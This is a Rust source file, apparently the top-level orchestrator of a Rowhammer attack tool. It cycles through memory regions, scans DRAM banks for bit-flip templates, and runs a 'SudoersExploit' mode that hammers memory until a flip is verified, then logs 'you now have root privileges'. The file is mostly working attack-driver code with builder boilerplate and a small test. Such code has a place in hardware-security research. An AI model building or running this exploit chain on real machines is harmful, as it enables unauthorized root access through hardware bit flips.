use crate::allocator::RegionAllocator;
use crate::config::{HammerConfig, ScanMode};
use crate::exploit::{RegionError, SudoersExploit, VerifiedFlip};
use crate::hammerer::Hammering;
use crate::memory::{BitFlip, BytePointer, DramConfig, Memory, VictimBuffer};
use crate::opcodes::Template;
use crate::scanner::BankScanner;
use crate::util::MAX_REGIONS;
use indicatif::{MultiProgress, ProgressBar, ProgressStyle};
use log::{info, warn};
use serde::Serialize;
use thiserror::Error;

/// Top-level orchestrator.
///
/// Combines a [`RegionAllocator`] and a [`Hammering`] implementation with the
/// DRAM geometry and the run configuration, and repeats the configured mode
/// over successive 2MB regions until one yields a result or every region has
/// been tried. Every mapped region is released before the next one is
/// tried, also on failure paths.
///
/// Construct through [`Peen::builder`].
pub struct Peen<A: RegionAllocator, H: Hammering> {
    allocator: A,
    hammerer: H,
    dram: DramConfig,
    config: HammerConfig,
    progress: Option<MultiProgress>,
}

/// Outcome of a complete run.
#[derive(Debug, Serialize)]
pub enum RunOutcome {
    /// A verified flip at the template offset
    Flipped(VerifiedFlip),
    /// Every region was attempted without a verified flip
    Exhausted,
    /// Result of a scan-only mode
    Scanned(Option<Template>),
    /// Flip statistics from random-pair mode
    RandomFlips(Vec<BitFlip>),
}

/// Report of one run.
#[derive(Debug, Serialize)]
pub struct RunReport {
    /// RFC 3339 timestamp of the run
    pub date: String,
    /// Number of regions mapped and attempted
    pub regions_tried: usize,
    /// Final outcome
    pub outcome: RunOutcome,
}

impl RunReport {
    fn new(regions_tried: usize, outcome: RunOutcome) -> Self {
        RunReport {
            date: chrono::Local::now().to_rfc3339(),
            regions_tried,
            outcome,
        }
    }
}

impl<A: RegionAllocator, H: Hammering> Peen<A, H> {
    /// Creates a new builder.
    pub fn builder() -> PeenBuilder<A, H> {
        PeenBuilder::new()
    }

    /// Runs the configured mode to completion.
    pub fn run(mut self) -> RunReport {
        match self.config.mode {
            ScanMode::FlipSudoers => self.run_exploit(),
            ScanMode::AllBanks => self.run_scan(None),
            ScanMode::Bank(bank) => self.run_scan(Some(bank)),
            ScanMode::RandomPairs => self.run_random_pairs(),
        }
    }

    fn region_bar(&self, regions: usize) -> Option<ProgressBar> {
        self.progress.as_ref().map(|p| {
            let bar = p.add(ProgressBar::new(regions as u64));
            let style = ProgressStyle::default_bar()
                .template("region {pos:>2}/{len:<2} {bar:40.cyan/blue} [{elapsed_precise}] {msg}")
                .unwrap_or_else(|_| ProgressStyle::default_bar());
            bar.set_style(style);
            bar
        })
    }

    /// Maps, fills and entropy-pads the region with the given index.
    /// A mapping failure is logged and skipped.
    fn map_region(&mut self, index: usize) -> Option<Memory> {
        match self.allocator.map_region(index) {
            Ok(memory) => {
                info!("[+] region {} mapped at {:p}", index, memory.ptr());
                memory.fill(self.config.fill_byte);
                memory.add_entropy();
                Some(memory)
            }
            Err(e) => {
                warn!("failed to map region {}: {}", index, e);
                None
            }
        }
    }

    fn run_exploit(&mut self) -> RunReport {
        let bar = self.region_bar(MAX_REGIONS);
        for index in 1..=MAX_REGIONS {
            if let Some(bar) = &bar {
                bar.set_position(index as u64);
            }
            let Some(memory) = self.map_region(index) else {
                continue;
            };
            let result =
                SudoersExploit::new(&memory, &self.dram, &self.config, &self.hammerer).run();
            memory.dealloc();
            match result {
                Ok(flip) => {
                    info!(
                        "[+] verified flip after {} region(s); you now have root privileges :)",
                        index
                    );
                    return RunReport::new(index, RunOutcome::Flipped(flip));
                }
                Err(RegionError::TemplateNotFound) => {
                    info!("region {} yielded no template", index)
                }
                Err(e) => warn!("region {} attempt failed: {}", index, e),
            }
        }
        info!("no verified flip after {} regions", MAX_REGIONS);
        RunReport::new(MAX_REGIONS, RunOutcome::Exhausted)
    }

    fn run_scan(&mut self, bank: Option<usize>) -> RunReport {
        let regions = match bank {
            Some(_) => 1,
            None => MAX_REGIONS,
        };
        let bar = self.region_bar(regions);
        for index in 1..=regions {
            if let Some(bar) = &bar {
                bar.set_position(index as u64);
            }
            let Some(memory) = self.map_region(index) else {
                continue;
            };
            let scanner = BankScanner::new(&memory, &self.dram, &self.config, &self.hammerer);
            let result = match bank {
                Some(bank) => scanner.scan_bank(bank),
                None => scanner.scan_all_banks(),
            };
            memory.dealloc();
            match result {
                Ok(Some(template)) => {
                    return RunReport::new(index, RunOutcome::Scanned(Some(template)));
                }
                Ok(None) => {}
                Err(e) => warn!("hammering failed in region {}: {}", index, e),
            }
        }
        RunReport::new(regions, RunOutcome::Scanned(None))
    }

    fn run_random_pairs(&mut self) -> RunReport {
        let Some(memory) = self.map_region(1) else {
            return RunReport::new(0, RunOutcome::RandomFlips(vec![]));
        };
        let scanner = BankScanner::new(&memory, &self.dram, &self.config, &self.hammerer);
        let result = scanner.hammer_random_pairs(self.config.random_pairs);
        memory.dealloc();
        let flips = match result {
            Ok(flips) => flips,
            Err(e) => {
                warn!("hammering failed: {}", e);
                vec![]
            }
        };
        RunReport::new(1, RunOutcome::RandomFlips(flips))
    }
}

/// Errors from [`PeenBuilder::build`].
#[derive(Debug, Error)]
pub enum BuildError {
    /// No allocator specified
    #[error("no allocator specified")]
    Allocator,
    /// No hammerer specified
    #[error("no hammerer specified")]
    Hammerer,
}

/// Builder for [`Peen`].
///
/// The DRAM geometry defaults to the built-in DDR3 functions and the run
/// configuration to [`HammerConfig::default`]; allocator and hammerer are
/// required.
pub struct PeenBuilder<A: RegionAllocator, H: Hammering> {
    allocator: Option<A>,
    hammerer: Option<H>,
    dram: DramConfig,
    config: HammerConfig,
    progress: Option<MultiProgress>,
}

impl<A: RegionAllocator, H: Hammering> PeenBuilder<A, H> {
    /// Creates a builder with default geometry and configuration.
    pub fn new() -> Self {
        PeenBuilder {
            allocator: None,
            hammerer: None,
            dram: DramConfig::ddr3(),
            config: HammerConfig::default(),
            progress: None,
        }
    }

    /// Sets the region allocator.
    pub fn allocator(mut self, allocator: A) -> Self {
        self.allocator = Some(allocator);
        self
    }

    /// Sets the hammerer.
    pub fn hammerer(mut self, hammerer: H) -> Self {
        self.hammerer = Some(hammerer);
        self
    }

    /// Sets the DRAM geometry.
    pub fn dram(mut self, dram: DramConfig) -> Self {
        self.dram = dram;
        self
    }

    /// Sets the run configuration.
    pub fn config(mut self, config: HammerConfig) -> Self {
        self.config = config;
        self
    }

    /// Attaches a progress display.
    pub fn progress(mut self, progress: MultiProgress) -> Self {
        self.progress = Some(progress);
        self
    }

    /// Builds the orchestrator.
    ///
    /// # Errors
    ///
    /// Returns an error if the allocator or the hammerer is missing.
    pub fn build(self) -> Result<Peen<A, H>, BuildError> {
        Ok(Peen {
            allocator: self.allocator.ok_or(BuildError::Allocator)?,
            hammerer: self.hammerer.ok_or(BuildError::Hammerer)?,
            dram: self.dram,
            config: self.config,
            progress: self.progress,
        })
    }
}

impl<A: RegionAllocator, H: Hammering> Default for PeenBuilder<A, H> {
    fn default() -> Self {
        Self::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::convert::Infallible;

    struct NeverAllocator;

    impl RegionAllocator for NeverAllocator {
        type Error = std::io::Error;
        fn map_region(&mut self, _index: usize) -> Result<Memory, Self::Error> {
            unreachable!("not mapped in this test")
        }
    }

    struct NeverHammer;

    impl Hammering for NeverHammer {
        type Error = Infallible;
        fn hammer(&self, _: *const u8, _: *const u8, _: u64) -> Result<(), Self::Error> {
            unreachable!("not hammered in this test")
        }
    }

    #[test]
    fn test_builder_requires_allocator_and_hammerer() {
        let builder = PeenBuilder::<NeverAllocator, NeverHammer>::new();
        assert!(matches!(
            builder.hammerer(NeverHammer).build(),
            Err(BuildError::Allocator)
        ));
        let builder = PeenBuilder::<NeverAllocator, NeverHammer>::new();
        assert!(matches!(
            builder.allocator(NeverAllocator).build(),
            Err(BuildError::Hammerer)
        ));
    }
}
